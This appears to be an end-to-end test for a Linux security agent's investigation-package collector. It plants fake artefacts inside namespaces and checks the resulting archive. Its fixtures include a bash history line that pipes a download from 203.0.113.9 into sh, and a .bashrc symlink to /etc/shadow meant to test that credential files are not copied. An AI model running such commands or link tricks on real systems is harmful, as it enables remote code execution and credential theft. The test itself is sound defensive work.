import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { endianness, tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HRESULT } from '../../../src/agent/executor.js';
import { MANIFEST, PACKAGE_FORMAT, type LinuxExecutorOptions, type Manifest, type ManifestItem } from '../../../src/agent/executors/linux/index.js';
import { UTMP_RECORD_SIZE } from '../../../src/agent/executors/linux/investigation/parsers.js';
import { announce, childrenOf, must, namespaceOf, ROOT, runJob, sh, skipReason, start, waitUntil, which, type Owned } from './support.js';

/**
 * CollectInvestigationPackage for real, as root, in namespaces the test makes: PID (so the
 * process list holds only the test's processes), network (so the sockets are only the test's
 * listener and its connection) and mount, where tmpfs mounts over /run, /home, /var/log,
 * /var/spool, /etc/systemd/system, /etc/cron.d and /etc/profile.d, and a copy of /etc/passwd
 * with one more user, give the collectors known content without touching the host. /usr/sbin
 * is hidden there too, so nft is "not installed". The archive is unpacked with the system tar.
 */

const reason = skipReason(['unshare', 'nsenter', 'mount', 'ip', 'tar', 'sleep', 'dpkg-query'], ['--pid', '--fork', '--mount-proc', '--net']);
const title = announce('CollectInvestigationPackage in PID, network and mount namespaces', reason);

const SECTIONS = ['system', 'processes', 'network', 'users', 'services', 'scheduled-tasks', 'installed-packages', 'logs', 'autoruns'];
const PORT = 47321;
const USER = 'cmtest';
const MARK = `cm-e2e-${Date.now()}`;

/** One utmp record as glibc writes it (USER_PROCESS). */
function utmpRecord(pid: number, user: string, line: string, host: string, ip: [number, number, number, number]): Buffer {
  const b = Buffer.alloc(UTMP_RECORD_SIZE);
  const le = endianness() === 'LE';
  const i16 = (v: number, o: number) => (le ? b.writeInt16LE(v, o) : b.writeInt16BE(v, o));
  const i32 = (v: number, o: number) => (le ? b.writeInt32LE(v, o) : b.writeInt32BE(v, o));
  i16(7, 0);
  i32(pid, 4);
  b.write(line, 8);
  b.write(line.slice(-4), 40);
  b.write(user, 44);
  b.write(host, 76);
  i32(pid, 336);
  i32(Math.floor(Date.now() / 1000), 340);
  Buffer.from(ip).copy(b, 348);
  return b;
}

describe.skipIf(reason !== null)(title, () => {
  let holder: Owned | undefined;
  const helpers: Owned[] = [];
  let inner = 0;
  let T = '';
  let base: LinuxExecutorOptions;
  let sleeperPid = 0; // namespace pids
  let listenerPid = 0;
  let manifest: Manifest;
  let X = ''; // the unpacked archive
  let archiveEntries: string[] = [];

  /** A path inside the namespace's mounts, as the host reaches it. */
  const ns = (path: string) => `/proc/${inner}/root${path}`;
  const inNs = (args: string[], flags = ['-m']) => must('nsenter', ['-t', String(inner), ...flags, '--', ...args]);
  const read = (path: string) => readFileSync(join(X, path), 'utf8');
  const json = <T = Record<string, unknown>>(path: string) => JSON.parse(read(path)) as T;
  const item = (source: string) => manifest.sections.flatMap((s) => s.items).find((i) => i.source === source);

  /** Starts a long-running helper in all three namespaces; resolves with its namespace pid. */
  async function helper(args: string[], ready?: string): Promise<number> {
    const owned = start('nsenter', ['-t', String(inner), '-p', '-m', '-n', '--', ...args]);
    helpers.push(owned);
    if (ready) await waitUntil(`${args[0]} to be ready`, () => owned.output().includes(ready) || (owned.child.exitCode !== null && owned.output()), 10_000);
    const host = await waitUntil(`${args[0]} to start`, () => childrenOf(owned.child.pid!)[0] ?? null);
    const status = readFileSync(`/proc/${host}/status`, 'utf8');
    return Number(/^NSpid:.*\s(\d+)$/m.exec(status)![1]); // its pid inside the namespace
  }

  async function collect(extra: LinuxExecutorOptions = {}) {
    const uploads = mkdtempSync(join(T, 'uploads-'));
    const r = await runJob(['nsenter', '-t', String(inner), '-p', '-m', '-n', `--wd=${ROOT}`, '--'], {
      kind: 'execute',
      options: { ...base, ...extra },
      action: { type: 'CollectInvestigationPackage' },
      uploads,
    }, 120_000);
    if (!r.outcome) throw new Error(`no outcome: ${r.error}\n${r.stderr}`);
    return { outcome: r.outcome, uploads: r.uploads!, archive: join(uploads, 'package') };
  }

  async function unpack(archive: string): Promise<string> {
    const dir = mkdtempSync(join(T, 'unpacked-'));
    await must('tar', ['-xzf', archive, '-C', dir]);
    return dir;
  }

  beforeAll(async () => {
    T = mkdtempSync(join(tmpdir(), 'cm-package-'));
    base = { stateDir: join(T, 'state'), logFile: join(T, 'log/actions.log'), quarantineDir: join(T, 'q') };
    holder = start('unshare', ['--pid', '--fork', '--mount-proc', '--net', '--kill-child', 'sleep', '600']);
    const hostPidNs = namespaceOf('self', 'pid');
    inner = await waitUntil('the namespace pid 1', () => childrenOf(holder!.child.pid!).find((p) => namespaceOf(p, 'pid') !== hostPidNs) ?? null);

    await inNs(['ip', 'link', 'set', 'lo', 'up'], ['-n']);
    for (const dir of ['/run', '/home', '/var/log', '/var/spool', '/etc/systemd/system', '/etc/cron.d', '/etc/profile.d', '/usr/sbin']) {
      await inNs(['mount', '-t', 'tmpfs', '-o', 'size=16m,mode=0755', 'cmpkg', dir]);
    }
    const passwd = `${readFileSync('/etc/passwd', 'utf8').trimEnd()}\n${USER}:x:4242:4242:CM test:/home/${USER}:/bin/bash\n`;
    writeFileSync(join(T, 'passwd'), passwd);
    await inNs(['mount', '--bind', join(T, 'passwd'), '/etc/passwd']);

    sleeperPid = await helper(['sleep', '4242.5']);
    listenerPid = await helper(
      [process.execPath, '-e', `const n=require('net');const s=n.createServer(c=>c.on('error',()=>{})).listen(${PORT},'127.0.0.1',()=>{globalThis.c=n.connect(${PORT},'127.0.0.1',()=>console.log('connected'))})`],
      'connected',
    );

    // A login, in utmp and wtmp.
    const login = utmpRecord(sleeperPid, USER, 'pts/9', '198.51.100.7', [198, 51, 100, 7]);
    writeFileSync(ns('/run/utmp'), login);
    writeFileSync(ns('/var/log/wtmp'), login);
    // Services and timers.
    const units = ns('/etc/systemd/system');
    writeFileSync(join(units, 'cm-e2e.service'), `[Unit]\nDescription=${MARK} service\n[Service]\nExecStart=/usr/local/bin/cm-e2e-beacon\n[Install]\nWantedBy=multi-user.target\n`);
    writeFileSync(join(units, 'cm-e2e.timer'), `[Unit]\nDescription=${MARK} timer\n[Timer]\nOnCalendar=*-*-* 03:00:00\nPersistent=true\n[Install]\nWantedBy=timers.target\n`);
    for (const [wants, unit] of [
      ['multi-user.target.wants', 'cm-e2e.service'],
      ['timers.target.wants', 'cm-e2e.timer'],
    ] as const) {
      mkdirSync(join(units, wants));
      symlinkSync(`/etc/systemd/system/${unit}`, join(units, wants, unit));
    }
    // Cron: a system job and a user crontab.
    writeFileSync(ns('/etc/cron.d/cm-e2e'), `*/5 * * * * root /usr/local/bin/cm-e2e-beacon # ${MARK}\n`);
    mkdirSync(ns('/var/spool/cron/crontabs'), { recursive: true });
    writeFileSync(ns(`/var/spool/cron/crontabs/${USER}`), `@reboot /home/${USER}/.cache/x # ${MARK}\n`);
    // Logs: one larger than the item limit (its end is kept), one small.
    const lines = Array.from({ length: 2000 }, (_, i) => `Dec  1 10:00:00 host sshd[1]: line ${i}`);
    writeFileSync(ns('/var/log/auth.log'), `${lines.join('\n')}\nDec  1 10:00:01 host sshd[1]: Accepted publickey for ${USER} ${MARK}\n`);
    writeFileSync(ns('/var/log/dpkg.log'), `2026-12-01 10:00:00 install cm-e2e:amd64 <none> 1.0 ${MARK}\n`);
    // Autoruns: a profile.d script, a user's authorized key, and a .bashrc that tries to smuggle /etc/shadow.
    writeFileSync(ns('/etc/profile.d/cm-e2e.sh'), `export CM_E2E=${MARK}\n`);
    mkdirSync(ns(`/home/${USER}/.ssh`), { recursive: true });
    writeFileSync(ns(`/home/${USER}/.ssh/authorized_keys`), `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2e ${MARK}\n`);
    symlinkSync('/etc/shadow', ns(`/home/${USER}/.bashrc`));
    symlinkSync('/etc', ns(`/home/${USER}/.config`));
    writeFileSync(ns(`/home/${USER}/.bash_history`), `curl -s http://203.0.113.9/x | sh # ${MARK}\n`);

    const r = await collect({ packageItemMaxBytes: 8192 });
    expect(r.outcome, JSON.stringify(r.outcome)).toMatchObject({ status: 'Succeeded', errorHResult: 0 });
    expect(r.uploads).toHaveLength(1);
    X = await unpack(r.archive);
    manifest = json<Manifest>(MANIFEST);
    archiveEntries = (await must('tar', ['-tzvf', r.archive])).stdout.trim().split('\n');
  }, 120_000);

  afterAll(async () => {
    for (const h of helpers) await h.stop();
    await holder?.stop();
    if (T) rmSync(T, { recursive: true, force: true });
  }, 20_000);

  it('is a tar.gz with a manifest first, every documented section, and every item accounted for', () => {
    expect(archiveEntries[0]).toMatch(/ 0\/0 .* manifest\.json$/); // portable headers: no local owners
    expect(archiveEntries.every((l) => / 0\/0 /.test(l))).toBe(true);
    expect(manifest).toMatchObject({ format: PACKAGE_FORMAT, version: 1, limits: { itemMaxBytes: 8192 } });
    expect(manifest.sections.map((s) => s.name)).toEqual(SECTIONS);
    const items = manifest.sections.flatMap((s) => s.items);
    // Every file in the archive is an item's path, and every written item is in the archive with its size.
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const p = join(dir, name);
        if (statSync(p).isDirectory()) walk(p);
        else files.push(relative(X, p));
      }
    };
    walk(X);
    const written = items.filter((i) => i.path !== null);
    expect(files.filter((f) => f !== MANIFEST).sort()).toEqual(written.map((i) => i.path!).sort());
    for (const i of written) expect(statSync(join(X, i.path!)).size, i.path!).toBe(i.bytes);
    for (const s of manifest.sections) {
      expect(s.items.some((i) => (i.status === 'collected' || i.status === 'truncated') && i.bytes > 0), s.name).toBe(true);
      for (const i of s.items) expect(i.path === null || i.path.startsWith(`${s.name}/`), i.path!).toBe(true);
    }
    expect(manifest.totals.items).toBe(items.length);
  });

  it('processes: a process the test started, from /proc and from ps', () => {
    const list = json<{ processes: { pid: number; cmdline: string[]; user: string; comm: string; exe: string; startTime: string }[] }>('processes/processes.json');
    const sleeper = list.processes.find((p) => p.pid === sleeperPid);
    expect(sleeper).toMatchObject({ cmdline: ['sleep', '4242.5'], user: 'root', comm: 'sleep', exe: which('sleep') });
    expect(Math.abs(Date.parse(sleeper!.startTime) - Date.now())).toBeLessThan(10 * 60_000);
    expect(list.processes.find((p) => p.pid === 1)?.cmdline).toEqual(['sleep', '600']);
    expect(read('processes/ps.txt')).toMatch(new RegExp(`^root\\s+${sleeperPid}\\s.*sleep 4242\\.5$`, 'm'));
  });

  it('network: the listening socket and the connection, with their process, from /proc and from ss', () => {
    const sockets = json<{ listening: { localAddress: string; localPort: number; state: string; processes: { pid: number; comm: string }[] }[]; connections: { remotePort: number; state: string }[] }>(
      'network/sockets.json',
    );
    expect(sockets.listening).toEqual([expect.objectContaining({ protocol: 'tcp', localAddress: '127.0.0.1', localPort: PORT, state: 'LISTEN', processes: [{ pid: listenerPid, comm: 'node' }] })]);
    expect(sockets.connections.filter((c) => c.state === 'ESTABLISHED')).toHaveLength(2); // both ends
    expect(sockets.connections.some((c) => c.remotePort === PORT)).toBe(true);
    expect(read('network/ss-listening.txt')).toMatch(new RegExp(`127\\.0\\.0\\.1:${PORT} .*users:\\(\\("node",pid=${listenerPid},`));
    expect(read('network/files/proc/net/tcp')).toMatch(new RegExp(`:${PORT.toString(16).toUpperCase()} `));
    // nft lives in /usr/sbin, hidden here: recorded as missing, and the package still succeeded.
    expect(item('nft list ruleset')).toMatchObject({ status: 'missing', path: null, note: 'nft is not installed (Debian/Ubuntu package nftables)' });
    expect(manifest.missingPrograms).toContain('nft');
  });

  it('users: the login from utmp and wtmp, and who agrees; a history is copied', () => {
    const logged = json<{ present: boolean; sessions: Record<string, unknown>[] }>('users/logged-in.json');
    expect(logged.present).toBe(true);
    expect(logged.sessions).toEqual([expect.objectContaining({ type: 'USER_PROCESS', user: USER, line: 'pts/9', host: '198.51.100.7', address: '198.51.100.7', pid: sleeperPid, processRunning: true })]);
    expect(json<{ records: { user: string }[] }>('users/recent-logins.json').records.map((r) => r.user)).toEqual([USER]);
    expect(read('users/who.txt')).toMatch(new RegExp(`^${USER}\\s+.*pts/9.*198\\.51\\.100\\.7`, 'm'));
    expect(read('users/files/etc/passwd')).toContain(`${USER}:x:4242:4242:`);
    expect(read(`users/files/home/${USER}/.bash_history`)).toContain(MARK);
  });

  it('services: an enabled unit, from the unit directory and from systemctl', () => {
    expect(json<{ units: unknown[] }>('services/enabled-units.json').units).toContainEqual({
      unit: 'cm-e2e.service',
      wantedBy: 'multi-user.target',
      link: '/etc/systemd/system/multi-user.target.wants/cm-e2e.service',
      target: '/etc/systemd/system/cm-e2e.service',
    });
    expect(read('services/unit-files.txt')).toMatch(/^cm-e2e\.service\s+enabled/m);
  });

  it('scheduled tasks: a cron.d job, a user crontab and a systemd timer', () => {
    expect(read('scheduled-tasks/files/etc/cron.d/cm-e2e')).toContain(MARK);
    expect(read(`scheduled-tasks/files/var/spool/cron/crontabs/${USER}`)).toContain(MARK);
    const timers = json<{ timers: { unit: string; enabled: boolean; timer: Record<string, string[]> }[] }>('scheduled-tasks/systemd-timers.json').timers;
    expect(timers.find((t) => t.unit === 'cm-e2e.timer')).toMatchObject({ enabled: true, timer: { OnCalendar: ['*-*-* 03:00:00'], Persistent: ['true'] } });
  });

  it('installed packages: what dpkg knows, with versions', async () => {
    const version = (await must('dpkg-query', ['-W', '-f', '${Version}', 'coreutils'])).stdout;
    expect(read('installed-packages/dpkg.tsv')).toMatch(new RegExp(`^coreutils(:\\w+)?\\t${version.replace(/[.+]/g, '\\$&')}\\t\\w+\\tii `, 'm'));
    expect(item('rpm -qa --qf %{NAME}\\t%{VERSION}-%{RELEASE}\\t%{ARCH}\\t%{INSTALLTIME:date}\\n')?.status).toBe(which('rpm') ? 'collected' : 'missing');
  });

  it('logs: the end of a log larger than the item limit, whole lines; small logs whole; a listing of /var/log', () => {
    const auth = read('logs/files/var/log/auth.log');
    expect(Buffer.byteLength(auth)).toBeLessThanOrEqual(8192);
    expect(auth.endsWith(`Accepted publickey for ${USER} ${MARK}\n`)).toBe(true);
    expect(auth.split('\n')[0]).toMatch(/^Dec {2}1 10:00:00 host sshd\[1\]: line \d+$/);
    expect(item('/var/log/auth.log')).toMatchObject({ status: 'truncated', note: expect.stringMatching(/the last \d+ kept/) });
    expect(read('logs/files/var/log/dpkg.log')).toContain(MARK);
    expect(json<{ path: string }[]>('logs/listings/var/log.json').map((e) => e.path)).toEqual(expect.arrayContaining(['/var/log/auth.log', '/var/log/wtmp']));
    expect(item('/var/log/syslog')).toMatchObject({ status: 'absent', path: null });
  });

  it("autoruns: profile.d, systemd units with their links, a user's authorized keys; symlinks out of a home are not followed", () => {
    expect(read('autoruns/files/etc/profile.d/cm-e2e.sh')).toContain(MARK);
    expect(read('autoruns/files/etc/systemd/system/cm-e2e.service')).toContain('ExecStart=/usr/local/bin/cm-e2e-beacon');
    expect(json<{ path: string; type: string; target?: string }[]>('autoruns/listings/etc/systemd/system.json')).toContainEqual(
      expect.objectContaining({ path: '/etc/systemd/system/multi-user.target.wants/cm-e2e.service', type: 'symlink', target: '/etc/systemd/system/cm-e2e.service' }),
    );
    expect(read(`autoruns/files/home/${USER}/.ssh/authorized_keys`)).toContain(MARK);
    expect(item(`/home/${USER}/.bashrc`)).toMatchObject({ status: 'failed', path: null, note: `leads outside /home/${USER} (to /etc/shadow): not copied` });
    expect(existsSync(join(X, `autoruns/files/home/${USER}/.bashrc`))).toBe(false);
    expect(item(`/home/${USER}/.config/systemd/user`)).toMatchObject({ status: 'failed', path: null, note: `leads outside /home/${USER} (to /etc/systemd/user): not listed` });
    // Nothing in the archive came from /etc/shadow.
    const shadowLine = readFileSync('/etc/shadow', 'utf8').split('\n')[0]!;
    expect(shadowLine).toMatch(/^root:/);
    expect(archiveEntries.some((l) => l.endsWith('/shadow'))).toBe(false);
    for (const i of manifest.sections.flatMap((s) => s.items)) {
      if (i.path) expect(read(i.path).includes(shadowLine), i.path).toBe(false);
    }
  });

  it('system: a summary and the kernel', () => {
    expect(json('system/summary.json')).toMatchObject({ kernel: expect.any(String), cpus: expect.any(Number), bootTime: expect.any(String) });
    expect(read('system/uname.txt')).toMatch(/^Linux /);
    expect(read('system/files/etc/os-release')).toMatch(/^NAME=/m);
  });

  it('the package size limit: items past it are skipped and say so; nothing is left on the machine', async () => {
    const r = await collect({ packageMaxBytes: 64 * 1024 });
    expect(r.outcome, JSON.stringify(r.outcome)).toMatchObject({ status: 'Succeeded' });
    const dir = await unpack(r.archive);
    const m = JSON.parse(readFileSync(join(dir, MANIFEST), 'utf8')) as Manifest;
    const items: ManifestItem[] = m.sections.flatMap((s) => s.items);
    const skipped = items.filter((i) => i.status === 'skipped');
    expect(skipped.length).toBeGreaterThan(0);
    expect(skipped[0]!.note).toBe(`the package's size limit (${64 * 1024} bytes) was reached`);
    expect(m.totals.bytes).toBeLessThanOrEqual(64 * 1024);
    expect(readdirSync(join(base.stateDir!, 'packages'))).toEqual([]);
  }, 120_000);

  it('a refused upload fails the action; cancelled before it starts: aborted', async () => {
    const uploads = mkdtempSync(join(T, 'uploads-'));
    const refused = await runJob(['nsenter', '-t', String(inner), '-p', '-m', '-n', `--wd=${ROOT}`, '--'], {
      kind: 'execute',
      options: base,
      action: { type: 'CollectInvestigationPackage' },
      uploads,
      uploadLimitBytes: 100,
    }, 120_000);
    expect(refused.outcome).toMatchObject({ status: 'Failed', errorHResult: HRESULT.fail });
    expect(refused.outcome!.troubleshootInfo).toMatch(/^The investigation package \(\d+ bytes\) could not be uploaded: 413/);
    const cancelled = await runJob(['nsenter', '-t', String(inner), '-p', '-m', '-n', `--wd=${ROOT}`, '--'], {
      kind: 'execute',
      options: base,
      action: { type: 'CollectInvestigationPackage' },
      uploads,
      abortAfterMs: 0,
    });
    expect(cancelled.outcome).toMatchObject({ status: 'Failed', errorHResult: HRESULT.aborted });
    expect((await sh('ls', [join(base.stateDir!, 'packages')])).stdout.trim()).toBe('');
  }, 120_000);
});
